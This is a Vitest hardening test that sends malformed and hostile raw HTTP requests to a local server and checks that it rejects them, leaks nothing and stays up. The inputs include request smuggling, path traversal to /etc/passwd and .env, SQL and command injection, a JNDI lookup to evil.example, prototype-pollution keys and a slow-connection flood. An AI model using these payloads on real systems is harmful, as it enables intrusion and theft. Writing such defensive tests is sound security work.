import { connect } from 'node:net'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { idOf } from '../fixtures/people.ts'
import { contents } from '../fixtures/planted/contents.ts'
import { aServedFamily, type Served } from '../fixtures/served.ts'

/**
 * Requests as an attacker writes them, byte by byte over a socket, so that no client tidies them up on the way.
 * Each must get one of the answers named beside it (0: the connection is closed without an answer), with nothing of the
 * server's insides in it; afterwards the server is up and the database holds what it held.
 */
let centre: Served['centre']
let served: Served
let port: number
let before: unknown
beforeAll(async () => {
  served = await aServedFamily()
  centre = served.centre
  await centre.server.http.listen({ port: 0, host: '127.0.0.1' })
  port = (centre.server.http.server.address() as { port: number }).port
  await centre.server.http.inject({ method: 'GET', url: '/api/session', headers: { cookie: centre.cookie('head') } })
  before = await contents(centre.admin)
})
afterAll(() => centre.close())

const patienceMs = 1_500
/** Sends bytes as they are; answers everything that came back until the server closed or fell silent after an answer. */
const wire = (bytes: string | Buffer): Promise<string> =>
  new Promise(resolve => {
    const socket = connect(port, '127.0.0.1')
    let answer = ''
    const end = () => {
      socket.destroy()
      resolve(answer)
    }
    socket.setTimeout(patienceMs, end)
    socket.on('data', piece => {
      answer += piece.toString('latin1')
      setTimeout(end, 25)
    })
    socket.on('error', end)
    socket.on('close', end)
    socket.on('connect', () => socket.write(bytes))
  })
const statusOf = (answer: string) => Number(/^HTTP\/1\.[01] (\d{3})/u.exec(answer)?.[1] ?? 0)

type Row = [what: string, bytes: () => string | Buffer, statuses: number[]]
const lines = (...all: string[]) => `${all.join('\r\n')}\r\n\r\n`
const signedIn = () => [
  'Host: 127.0.0.1',
  `Cookie: ${centre.cookie('head')}`,
  'X-Patronat: 1',
  'Content-Type: application/json',
]
const get =
  (path: string, ...more: string[]) =>
  () =>
    lines(`GET ${path} HTTP/1.1`, ...signedIn(), ...more)
const post =
  (path: string, body: string, ...more: string[]) =>
  () =>
    `${lines(`POST ${path} HTTP/1.1`, ...signedIn(), `Content-Length: ${Buffer.byteLength(body)}`, ...more)}${body}`

/** The server answers, says nothing of itself, and is there for the next one. */
async function withstands([, bytes, statuses]: Row): Promise<void> {
  const answer = await wire(bytes())
  expect(statuses, answer.slice(0, 300)).toContain(statusOf(answer))
  expect(answer).not.toMatch(/node_modules|at \w+ \(|\.ts:\d|postgres|fastify|x-powered-by|^server:/imu)
  expect(answer).not.toMatch(/root:x:0|password_hash|"argon2/u)
}
/** What is tried, by where it attacks. */
const table: [where: string, rows: Row[]][] = []
const command = () => `/api/cases/${served.family.caseId}/recordContact`

table.push([
  'methods',
  [
    ...[
      'TRACE',
      'TRACK',
      'CONNECT',
      'PROPFIND',
      'MKCOL',
      'COPY',
      'SEARCH',
      'PURGE',
      'LINK',
      'DEBUG',
      'get',
      'GETT',
      'A'.repeat(200),
    ].map((method): Row => [
      method.slice(0, 20),
      () => lines(`${method} /api/session HTTP/1.1`, ...signedIn()),
      [0, 400, 404, 405],
    ]),
    [
      'OPTIONS of another site',
      () =>
        lines(
          'OPTIONS /api/session HTTP/1.1',
          ...signedIn(),
          'Origin: http://evil.example',
          'Access-Control-Request-Method: POST',
        ),
      [400, 404],
    ],
    ['HEAD of a list', () => lines('HEAD /api/cases HTTP/1.1', ...signedIn()), [200, 404]],
    ['a method override by header', post('/api/cases', '{}', 'X-HTTP-Method-Override: DELETE'), [404]],
    ['a method override in the address', post('/api/cases?_method=DELETE', '{}'), [404]],
    [
      'PATCH of a case',
      () => lines(`PATCH /api/cases/${served.family.caseId} HTTP/1.1`, ...signedIn(), 'Content-Length: 2') + '{}',
      [404],
    ],
  ],
])

table.push([
  'the first line',
  [
    ['HTTP/0.9', () => 'GET /api/cases\r\n\r\n', [0, 400, 401, 421]],
    ['HTTP/2 in words', () => lines('GET / HTTP/2.0', 'Host: 127.0.0.1'), [0, 200, 400, 404, 505]],
    ['HTTP/9.9', () => lines('GET / HTTP/9.9', 'Host: 127.0.0.1'), [0, 200, 400, 404, 505]],
    ['the preface of HTTP/2', () => 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', [0, 400]],
    [
      'a whole address of another host',
      () => lines('GET http://evil.example/api/session HTTP/1.1', 'Host: evil.example'),
      [400, 401, 404, 421],
    ],
    ['no host', () => 'GET /api/session HTTP/1.1\r\n\r\n', [400]],
    ['two hosts', () => lines('GET /api/session HTTP/1.1', 'Host: 127.0.0.1', 'Host: b'), [400, 401]],
    ['a host with a line in it', () => lines('GET /api/session HTTP/1.1', 'Host: a\r\n X: b'), [0, 400, 401]],
    ['an asterisk', () => lines('GET * HTTP/1.1', ...signedIn()), [0, 200, 400, 404]],
    ['no path', () => lines('GET  HTTP/1.1', ...signedIn()), [0, 400]],
    [
      'TLS without TLS',
      () => Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03]),
      [0, 400],
    ],
    ['a thousand zero bytes', () => Buffer.alloc(1000), [0, 400]],
    ['noise', () => Buffer.from(Array.from({ length: 2000 }, (_, at) => (at * 7919) % 256)), [0, 400]],
    ['a line that never ends', () => `GET /${'a'.repeat(40_000)}`, [0, 400, 414, 431]],
    ['a path of 15 000 characters', get(`/${'a'.repeat(15_000)}`), [200, 404, 414, 431]],
  ],
])

table.push([
  'headers',
  [
    ['seventeen kilobytes of one', get('/api/session', `X-Long: ${'x'.repeat(17_000)}`), [431]],
    ['two thousand of them', get('/api/session', ...Array.from({ length: 2000 }, (_, at) => `X-${at}: 1`)), [200, 431]],
    ['a name with a space', get('/api/session', 'X Y: 1'), [0, 400]],
    ['a name with a zero byte', get('/api/session', 'X\0Y: 1'), [0, 400]],
    ['a bare carriage return', get('/api/session', 'X: a\rSet-Cookie: patronat=b'), [0, 400]],
    ['a folded line', get('/api/session', 'X: a\r\n b'), [200, 400]],
    ['a colon and nothing', get('/api/session', ': 1'), [0, 400]],
    [
      'two session cookies, a wrong one first',
      () => lines('GET /api/session HTTP/1.1', 'Host: 127.0.0.1', `Cookie: patronat=nobody; ${centre.cookie('head')}`),
      [200, 401],
    ],
    [
      'a cookie named __proto__',
      () => lines('GET /api/session HTTP/1.1', 'Host: 127.0.0.1', 'Cookie: __proto__=1; constructor=2'),
      [401],
    ],
    [
      'a cookie of percent signs',
      () => lines('GET /api/session HTTP/1.1', 'Host: 127.0.0.1', 'Cookie: patronat=%E0%A4%A'),
      [401],
    ],
    [
      'a session in the address',
      () => lines(`GET /api/session?patronat=${centre.cookie('head').slice(9)} HTTP/1.1`, 'Host: 127.0.0.1'),
      [401],
    ],
    [
      'a session as bearer',
      () =>
        lines(
          'GET /api/session HTTP/1.1',
          'Host: 127.0.0.1',
          `Authorization: Bearer ${centre.cookie('head').slice(9)}`,
        ),
      [401],
    ],
    [
      'a made-up address of the sender',
      () =>
        lines(
          'GET /api/session HTTP/1.1',
          'Host: 127.0.0.1',
          'X-Forwarded-For: 127.0.0.1',
          'X-Real-IP: 127.0.0.1',
          'Forwarded: for=127.0.0.1',
        ),
      [401],
    ],
    [
      'an original address',
      () => lines('GET /public HTTP/1.1', 'Host: 127.0.0.1', 'X-Original-URL: /api/cases', 'X-Rewrite-URL: /api/cases'),
      [200, 404],
    ],
    ['a role of one’s own', get('/api/staff', 'X-Role: administrator', 'X-Centre-Id: 2'), [403]],
    [
      'a range of millions',
      get('/', `Range: bytes=${Array.from({ length: 500 }, (_, at) => `${at}-`).join(',')}`),
      [200, 206, 404, 416, 431],
    ],
    ['an expectation nobody meets', get('/api/session', 'Expect: 418-teapot'), [200, 417]],
    [
      'an upgrade to a websocket',
      get(
        '/api/session',
        'Connection: Upgrade',
        'Upgrade: websocket',
        'Sec-WebSocket-Version: 13',
        'Sec-WebSocket-Key: x',
      ),
      [0, 200, 400, 404],
    ],
    [
      'an accept of a thousand types',
      get('/api/session', `Accept: ${Array.from({ length: 1000 }, (_, at) => `a/${at}`).join(',')}`),
      [200, 431],
    ],
  ],
])

table.push([
  'bodies and their lengths',
  [
    [
      'length and chunks at once',
      () =>
        lines('POST /api/search HTTP/1.1', ...signedIn(), 'Content-Length: 5', 'Transfer-Encoding: chunked') +
        '0\r\n\r\nGET /api/staff HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n',
      [0, 400],
    ],
    [
      'two lengths',
      () => lines('POST /api/search HTTP/1.1', ...signedIn(), 'Content-Length: 2', 'Content-Length: 5') + '{}',
      [0, 400],
    ],
    ['a length below zero', () => lines('POST /api/search HTTP/1.1', ...signedIn(), 'Content-Length: -1'), [0, 400]],
    [
      'a length in hex',
      () => lines('POST /api/search HTTP/1.1', ...signedIn(), 'Content-Length: 0x10') + '{"query":"ivan"}',
      [0, 400],
    ],
    [
      'a length with a plus',
      () => lines('POST /api/search HTTP/1.1', ...signedIn(), 'Content-Length: +2') + '{}',
      [0, 400],
    ],
    [
      'a length of twenty digits',
      () => lines('POST /api/search HTTP/1.1', ...signedIn(), 'Content-Length: 99999999999999999999'),
      [0, 400, 413],
    ],
    [
      'a gigabyte promised',
      () => lines('POST /api/search HTTP/1.1', ...signedIn(), 'Content-Length: 1073741824') + '{',
      [413],
    ],
    [
      'chunks in capitals and twice',
      () => lines('POST /api/search HTTP/1.1', ...signedIn(), 'Transfer-Encoding: chunked, chunked') + '0\r\n\r\n',
      [0, 400, 501],
    ],
    [
      'chunks that are identity',
      () => lines('POST /api/search HTTP/1.1', ...signedIn(), 'Transfer-Encoding: identity') + '{}',
      [0, 400, 501],
    ],
    [
      'a chunk size that is no number',
      () => lines('POST /api/search HTTP/1.1', ...signedIn(), 'Transfer-Encoding: chunked') + 'zz\r\n{}\r\n0\r\n\r\n',
      [0, 400],
    ],
    [
      'a chunk longer than promised',
      () =>
        lines('POST /api/search HTTP/1.1', ...signedIn(), 'Transfer-Encoding: chunked') + '2\r\n{}}}}}\r\n0\r\n\r\n',
      [0, 400],
    ],
    [
      'a chunk extension of kilobytes',
      () =>
        lines('POST /api/search HTTP/1.1', ...signedIn(), 'Transfer-Encoding: chunked') +
        `2;${'a'.repeat(20_000)}\r\n{}\r\n0\r\n\r\n`,
      [0, 400, 413],
    ],
    ['packed JSON', post('/api/search', '\u001f\u008b\b\0', 'Content-Encoding: gzip'), [400, 415]],
    [
      'a body to a GET',
      () => lines('GET /api/session HTTP/1.1', ...signedIn(), 'Content-Length: 9') + '{"a":"b"}',
      [200, 400],
    ],
    [
      'a second request behind the first',
      () => `${post('/api/search', '{"query":"нет"}')()}${lines('GET /api/staff HTTP/1.1', 'Host: 127.0.0.1')}`,
      [200],
    ],
    ['two JSON values', post('/api/search', '{"query":"аб"}{"query":"вг"}'), [400]],
    ['a comment in JSON', post('/api/search', '{"query":"аб"/*x*/}'), [400]],
    ['a mark of byte order', post('/api/search', '\ufeff{"query":"аб"}'), [200, 400]],
    ['the same key twice', post('/api/search', '{"query":"аб","query":"вг"}'), [200, 400]],
    ['a number of a thousand digits', post('/api/search', `{"query":${'9'.repeat(1000)}}`), [400]],
    ['a lone half of a character', post('/api/search', '{"query":"\\ud800аб"}'), [200, 400]],
    [
      'a multipart form',
      () =>
        lines(
          'POST /api/attachments HTTP/1.1',
          ...signedIn().slice(0, 3),
          'Content-Type: multipart/form-data; boundary=x',
          'Content-Length: 7',
        ) + '--x--\r\n',
      [415],
    ],
    [
      'JSON that calls itself text',
      () =>
        lines('POST /api/search HTTP/1.1', ...signedIn().slice(0, 3), 'Content-Type: text/plain', 'Content-Length: 2') +
        '{}',
      [415],
    ],
    [
      'JSON without a type',
      () => lines('POST /api/search HTTP/1.1', ...signedIn().slice(0, 3), 'Content-Length: 2') + '{}',
      [400, 415],
    ],
    [
      'a type of ten kilobytes',
      () =>
        lines(
          'POST /api/search HTTP/1.1',
          ...signedIn().slice(0, 3),
          `Content-Type: application/json;${'a'.repeat(10_000)}`,
          'Content-Length: 2',
        ) + '{}',
      [400, 415],
    ],
  ],
])

table.push([
  'ways out of the folder',
  [
    '/../../../../etc/passwd',
    '/..%2f..%2f..%2fetc%2fpasswd',
    '/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
    '/..%252f..%252fetc%252fpasswd',
    '/..\\..\\..\\etc\\passwd',
    '/....//....//etc/passwd',
    '/assets/../../package.json',
    '/assets/%2e%2e/%2e%2e/package.json',
    '/assets/..%2f..%2fsrc%2fserver%2fmain.ts',
    '/%c0%ae%c0%ae/etc/passwd',
    '/file:///etc/passwd',
    '//evil.example/%2f..',
    '/.git/config',
    '/.env',
    '/data/postgres-passwords.json',
    '/data.key',
    '/package-lock.json',
    '/src/main.ts',
    '/migrations/0001-foundation.sql',
    '/dist/.stamp',
    '/index.html%00.js',
    '/assets/',
    '/server-status',
    '/metrics',
    '/debug/pprof',
    '/wp-login.php',
    '/actuator/env',
    '/api',
    '/api/',
    '/api//session',
    '/API/SESSION',
    '/api/session/',
    '/api/session;jsessionid=1',
    '/api/%73ession',
    '/api/session%20',
    '/api/session#x',
  ].map((path): Row => [
    path,
    () => lines(`GET ${path} HTTP/1.1`, 'Host: 127.0.0.1'),
    [0, 200, 301, 302, 400, 401, 404],
  ]),
])

const words = [
  "' or '1'='1",
  "'; drop table fact; --",
  '1; select pg_sleep(5)',
  "') union select password_hash from staff --",
  '$1',
  '\\x00',
  '%27%20or%201=1',
  '{{constructor.constructor("return process")()}}',
  '${jndi:ldap://evil.example/a}',
  '<!ENTITY x SYSTEM "file:///etc/passwd">',
  '; cat /etc/passwd',
  '`id`',
  '|| id',
  '{"$gt":""}',
  '*)(uid=*))(|(uid=*',
  '\r\nSet-Cookie: patronat=evil',
]
table.push([
  'words that would be orders elsewhere',
  [
    ...words.map((word): Row => [
      `search: ${word.slice(0, 30)}`,
      post('/api/search', JSON.stringify({ query: word })),
      [200, 400],
    ]),
    ...words.map((word): Row => [
      `list: ${word.slice(0, 30)}`,
      post('/api/cases/list', JSON.stringify({ locality: word, after: word })),
      [200, 400],
    ]),
    ...words.map((word): Row => [
      `id: ${word.slice(0, 30)}`,
      get(`/api/cases/${encodeURIComponent(word)}`),
      [400, 404],
    ]),
    ...words.map((word): Row => [
      `draft: ${word.slice(0, 30)}`,
      get(`/api/drafts/${encodeURIComponent(word)}`),
      [400, 404],
    ]),
    ...words.map((word): Row => [
      `document: ${word.slice(0, 30)}`,
      get(`/api/documents/${idOf('x')}/${encodeURIComponent(word)}`),
      [400, 404],
    ]),
  ],
])

table.push([
  'keys of the prototype',
  ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__'].flatMap((key): Row[] => [
    [`${key} in a body`, post('/api/search', `{"query":"аб","${key}":{"role":"administrator"}}`), [200, 400]],
    [`${key} in an address`, get(`/api/cases?${key}=1`), [200, 400]],
    [`${key} in brackets`, get(`/api/cases?${key}[admin]=1`), [200, 400]],
    [`${key} as a form`, get(`/api/forms/${key}/pdf`), [400, 404]],
    [`${key} as a journal`, get(`/api/registers/${key}?year=2026`), [400, 404]],
    [`${key} as a command`, post(`/api/cases/${idOf('x')}/${key}`, '{}'), [400, 404]],
  ]),
])

table.push([
  'forged and repeated',
  [
    ['somebody else’s case', get(`/api/cases/${idOf('case foreign')}`), [404]],
    [
      'a command on a case of nothing',
      () => post(`/api/cases/${idOf('nothing')}/recordContact`, '{"commandId":"x"}')(),
      [400],
    ],
    ['a command id that is no id', () => post(command(), '{"commandId":"1","baseVersion":1,"input":{}}')(), [400]],
    [
      'a version below zero',
      () => post(command(), `{"commandId":"${idOf('c')}","baseVersion":-1,"input":{}}`)(),
      [400],
    ],
    [
      'a version of a thousand digits',
      () => post(command(), `{"commandId":"${idOf('c')}","baseVersion":1e999,"input":{}}`)(),
      [400],
    ],
    [
      'a writer named in the body',
      () => post(command(), `{"commandId":"${idOf('c')}","baseVersion":1,"by":"${idOf('1:head')}","input":{}}`)(),
      [400],
    ],
    [
      'a page of another site',
      () =>
        lines(
          `POST ${command()} HTTP/1.1`,
          'Host: 127.0.0.1',
          `Cookie: ${centre.cookie('head')}`,
          'Origin: http://evil.example',
          'Content-Type: application/json',
          'Content-Length: 2',
        ) + '{}',
      [403],
    ],
    [
      'a page of another site that knows the header',
      () =>
        lines(
          `POST ${command()} HTTP/1.1`,
          ...signedIn(),
          'Origin: http://evil.example',
          'Sec-Fetch-Site: cross-site',
          'Content-Length: 2',
        ) + '{}',
      [403],
    ],
  ],
])

describe.each(table)('%s', (_, rows) => {
  test.each(rows)('%s', async (...row) => withstands(row))
})

test('slow senders hold no one up', async () => {
  // Two hundred connections that say a little and then nothing.
  const slow = await Promise.all(
    Array.from(
      { length: 200 },
      (_, at) =>
        new Promise<ReturnType<typeof connect>>(resolve => {
          const socket = connect(port, '127.0.0.1', () => {
            socket.write(
              at % 2
                ? 'GET /api/session HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: '
                : post('/api/search', '{"query":"аб"}')().slice(0, -3),
            )
            resolve(socket)
          })
          socket.on('error', () => {})
        }),
    ),
  )
  expect(statusOf(await wire(get('/api/session')()))).toBe(200)
  for (const socket of slow) socket.destroy()
})

test('a hundred and fifty requests and more were tried, the server is up and nothing is changed', async () => {
  expect(statusOf(await wire(get('/api/session')()))).toBe(200)
  expect(({} as { admin?: boolean }).admin).toBeUndefined()
  expect(await contents(centre.admin)).toEqual(before)
})
